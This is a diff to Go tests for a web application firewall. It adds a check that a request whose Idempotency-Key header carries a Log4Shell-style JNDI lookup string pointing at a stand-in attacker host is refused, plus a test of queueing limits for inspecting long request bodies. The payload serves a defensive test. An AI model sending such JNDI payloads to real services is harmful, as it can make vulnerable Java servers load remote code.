@@ -5,6 +5,7 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/rampart-security/rampart/monitor/audit"
 )
@@ -36,6 +37,10 @@ func TestWAF(t *testing.T) {
 		t.Errorf("an attack in the body: %d, and the service was asked %d times", status, h.served()-before)
 	}
 	checkWAFEvent(t, h, audit.Refused)
+	key := h.do("POST", "/orders", good, "Authorization", ann, "Rampart-Nonce", freshNonce(), "Idempotency-Key", "${jndi:ldap://evil.example/a}")
+	if key.StatusCode != http.StatusForbidden || h.served() != before {
+		t.Errorf("an attack in an idempotency key: %s, and the service was asked %d times", key.Status, h.served()-before)
+	}
 	for name, tt := range map[string]struct {
 		path, header, value string
 		status              int
@@ -66,6 +71,29 @@ func TestWAFReadsWhatIsJudged(t *testing.T) {
 		if res.StatusCode != want || h.served() != before {
 			t.Errorf("an attack with Connection: %s: %s %s, and the service was asked %d times", field, res.Status, res.body, h.served()-before)
 		}
+	}
+}
+
+// TestLongTextsTakeTurns: however many long texts there are, short ones do not wait
+// for them, and one that gets no turn in time is refused, not let through.
+func TestLongTextsTakeTurns(t *testing.T) {
+	turns := newTurns()
+	turns.wait = time.Millisecond
+	var leave []func()
+	for range cap(turns.places) {
+		out, err := turns.enter(t.Context(), longText+1)
+		must(t, err)
+		leave = append(leave, out)
+	}
+	if _, err := turns.enter(t.Context(), longText); err != nil {
+		t.Error("a short text waits for long ones:", err)
+	}
+	if _, err := turns.enter(t.Context(), longText+1); err == nil {
+		t.Errorf("more than %d long texts are inspected at once", cap(turns.places))
+	}
+	leave[0]()
+	if _, err := turns.enter(t.Context(), longText+1); err != nil {
+		t.Error("nobody follows on one who leaves:", err)
 	}
 }
 
